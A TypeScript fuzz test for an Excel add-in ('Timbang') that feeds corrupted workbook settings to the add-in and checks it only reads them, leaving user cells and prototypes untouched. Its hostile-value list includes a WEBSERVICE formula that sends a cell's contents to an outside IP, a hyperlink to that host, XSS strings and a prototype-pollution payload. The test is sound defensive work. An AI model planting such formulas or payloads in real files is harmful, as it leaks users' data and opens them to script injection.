import { readRuleSets } from "../../src/taskpane/check/kept-rule-sets";
import { readScenarios } from "../../src/taskpane/scenario/workbook-scenarios";
import { checkedWorkbook, documentSettings, excelExecutor } from "../../src/workbook/excel";
import { type WorkbookSnapshot } from "../../workbench/host";
import { smallPlan } from "../support/small-plan";
import { openWorkbook, type OpenWorkbook } from "../workbook/excel/open-workbook";
import { restoreWorkbook } from "../support/restore-workbook";

const workbooks = 200;

type Random = (below: number) => number;

function seeded(seed: number): Random {
  let state = seed;
  return (below) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((state / 2 ** 32) * below);
  };
}

const pick = <T>(list: readonly T[], random: Random): T => list[random(list.length)]!;

const outward = '=WEBSERVICE("http://192.0.2.1/?q="&B9)';

/** What a stranger may put in the place of any value. */
const hostileValues: readonly unknown[] = [
  ...[outward, '=HYPERLINK("http://192.0.2.1/","NTP")', "<img src=x onerror=alert(1)>"],
  ...["javascript:alert(1)", "__proto__", "constructor", "A1:XFD1048576", "Sheet1!A1", "'[1]x'!A1"],
  ...["", "x".repeat(40_000), "\ud83d", "2026-13-45", null, true, -1, 0, 0.5, 1e9, 1e308, 2 ** 53],
  ...[
    [],
    {},
    [[[[]]]],
    { toString: 1 },
    Array.from({ length: 5_000 }, () => ({ row: 0, column: 0 })),
  ],
  JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}'),
];

const nested = (depth: number) => `${"[".repeat(depth)}${"]".repeat(depth)}`;

/** A setting as it was, with some of its values, names or letters replaced. */
function crafted(text: string, random: Random): string {
  if (random(8) === 0) return pick(["{", "null", nested(50_000), '"x"', text.slice(0, -1)], random);
  let value: unknown = JSON.parse(text);
  for (let changes = 1 + random(3); changes > 0; changes--) value = changedOnce(value, random);
  return JSON.stringify(value);
}

function changedOnce(value: unknown, random: Random): unknown {
  if (value === null || typeof value !== "object" || random(12) === 0)
    return pick(hostileValues, random);
  const keys = Object.keys(value);
  if (keys.length === 0) return pick(hostileValues, random);
  const key = pick(keys, random);
  const changed = changedOnce((value as Record<string, unknown>)[key], random);
  if (Array.isArray(value))
    return value.map((one: unknown, index) => (index === Number(key) ? changed : one));
  // By its own name also where that is __proto__, which an assignment would not make a member.
  return Object.fromEntries([
    ...Object.entries(value).filter(([name]) => name !== key || random(10) > 0),
    [random(15) === 0 ? "__proto__" : key, changed],
  ]);
}

const place = { sheet: "Sheet1", cell: "D2" };

/** A workbook with what Timbang keeps in one: two blocks, marks, scenarios, rules, and a request that was cut off. */
async function keptWorkbook(): Promise<{ saved: WorkbookSnapshot; journal: string }> {
  const { host, executor, type } = openWorkbook();
  type(0, 0, [
    ["Padi", "1"],
    ["Jagung", "=B1*2"],
    ["<b>Tebu</b>", outward.replace("=", "'=")],
  ]);
  await executor.apply(smallPlan("a", place), { overwrite: false });
  await executor.apply(smallPlan("b", { newSheet: "Small" }), { overwrite: false });
  await checkedWorkbook().mark([{ sheet: "Sheet1", address: "A1", text: "Timbang: x" }]);
  const settings = documentSettings();
  await settings.change("scenarios", () => ({ text: JSON.stringify(scenarios) }));
  await settings.change("check-rules", () => ({ text: JSON.stringify(rules) }));
  const record: unknown = JSON.parse(host.workbook.settings.get("timbang.block.a") as string);
  const before = { content: "old", numberFormat: "General" };
  const cells = [{ row: 0, column: 0, before, after: "abcd" }];
  return {
    saved: host.workbook.snapshot(),
    journal: JSON.stringify({ kind: "give-back", record, cells }),
  };
}

const shock = { item: "it.padi", percent: 10 };
const scenarios = {
  version: 1,
  scenarios: [{ name: "Panen", shocks: [shock], links: [] }],
  weights: [{ group: "it", row: "it.padi", weights: { "it.padi": 0.2 } }],
};
const line = { label: "Jumlah", measure: "", dated: false, nth: 0 };
const rule = { axis: "row", kind: "sum", result: line, of: [line, line], holds: true };
const rules = { version: 1, sets: [{ name: "Bulanan", rules: [rule] }] };

const nameTargets = ["Sheet1!$A$1:$XFD$1048576", "Sheet1!$A$1", "Sheet1!$B$9:$B$9", "Small!$A:$C"];

/** The workbook as a stranger sends it. */
function craft({ saved, journal }: Awaited<ReturnType<typeof keptWorkbook>>, random: Random) {
  const snapshot = structuredClone(saved);
  const settings = snapshot.settings as Record<string, unknown>;
  settings["timbang.journal.a"] = journal;
  const keys = Object.keys(settings);
  const texts = keys.map((key) => settings[key] as string);
  keys.forEach((key, index) => {
    if (random(3) > 0) settings[key] = crafted(texts[index]!, random);
    // What belongs under one name may come under another.
    else if (random(4) === 0) settings[key] = pick(texts, random);
  });
  if (random(3) === 0)
    settings[`timbang.block.${pick(["__proto__", "=x", "a b"], random)}`] = texts[0];
  for (const name of snapshot.names)
    if (random(4) === 0) Object.assign(name, { formula: `=${pick(nameTargets, random)}` });
  return snapshot;
}

/** What the pane reads of a workbook by itself, and on which screens. */
async function openPane() {
  const executor = excelExecutor();
  const settings = documentSettings();
  const [blocks, places, leftovers] = [
    await executor.blocks(),
    await executor.places(),
    await executor.leftovers(),
  ];
  const [kept, sets] = [await settings.read("scenarios"), await settings.read("check-rules")];
  readScenarios(kept.ok ? kept.value : undefined);
  readRuleSets(sets.ok ? sets.value : undefined);
  return { executor, blocks, places, leftovers };
}

/** Cells of the reader, beside what was inserted: nothing may touch them. */
const ownCells = ({ host }: OpenWorkbook) => {
  const sheet = host.workbook.sheets.find(({ name }) => name === "Sheet1");
  return [0, 1, 2].flatMap((row) =>
    [0, 1].map(
      (column) => sheet && [sheet.valueAt(row, column), sheet.cellAt(row, column).formula],
    ),
  );
};

const outwardFormulas = (open: OpenWorkbook) =>
  open
    .snapshot()
    .sheets.flatMap(({ cells }) => Object.values(cells))
    .filter(({ formula }) => /WEBSERVICE|HYPERLINK|\[/.test(formula ?? ""));

test("a stranger's workbooks are only read, and what their reader then agrees to leaves other cells alone", async () => {
  const kept = await keptWorkbook();
  const prototypes = [Object.prototype, Array.prototype, Function.prototype, String.prototype];
  const members = () => prototypes.map((one) => Object.getOwnPropertyNames(one));
  const before = members();
  let listed = 0;
  for (let seed = 1; seed <= workbooks; seed++) {
    const open = openWorkbook();
    const snapshot = craft(kept, seeded(seed));
    restoreWorkbook(open.host.workbook, snapshot);
    const asItCame = open.snapshot();
    const own = ownCells(open);
    const { executor, blocks, places, leftovers } = await openPane();
    expect([seed, blocks.ok, places.ok, leftovers.ok]).toEqual([seed, true, true, true]);
    expect([seed, open.snapshot()]).toEqual([seed, asItCame]);
    const found = blocks.ok ? blocks.value : [];
    listed += found.length;
    await executor.clearLeftovers(leftovers.ok ? leftovers.value : [], () => undefined);
    await checkedWorkbook().unmark();
    for (const { id } of found) await executor.remove(id);
    expect([seed, ownCells(open)]).toEqual([seed, own]);
    expect([seed, outwardFormulas(open)]).toEqual([seed, []]);
  }
  expect(members()).toEqual(before);
  // Not everything is refused: most workbooks still have a block to show.
  expect(listed).toBeGreaterThan(workbooks / 2);
}, 300_000);
